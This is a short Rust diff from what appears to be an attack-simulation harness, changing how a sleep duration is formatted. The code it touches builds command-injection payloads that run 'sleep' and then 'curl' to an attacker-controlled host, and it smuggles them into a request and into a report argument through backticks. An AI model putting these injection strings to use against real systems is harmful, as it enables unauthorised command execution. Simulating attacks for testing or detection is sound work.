@@ -29,7 +29,7 @@ fn injected(command: &str) -> String {
 
 fn pause(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
     let hours = scene.random.between(1.0, 4.5) * 3600.0;
-    let command = format!("sleep {};curl http://{}/z", hours as u64, attack.authority());
+    let command = format!("sleep {hours:.0};curl http://{}/z", attack.authority());
     request(scene, attack, 0.3, &injected(&format!("({command})&")), 200);
     let worker = scene.worker();
     let shell = scene.shell(0.05, worker, &format!("report --format pdf`({command})&`"));
